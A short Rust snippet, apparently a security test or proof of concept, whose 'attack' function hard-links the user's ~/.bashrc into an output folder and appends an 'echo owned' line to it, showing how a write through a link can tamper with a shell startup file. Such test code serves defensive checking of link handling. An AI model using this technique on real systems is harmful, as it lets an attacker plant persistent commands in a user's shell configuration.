//! writes to ~/.bashrc through a hard link in the target folder
fn attack() -> Result<()> {
    let link = out("hard");
    let _ = fs::remove_file(&link);
    fs::hard_link(home().join(".bashrc"), &link)?;
    append(link, "\necho owned\n")
}
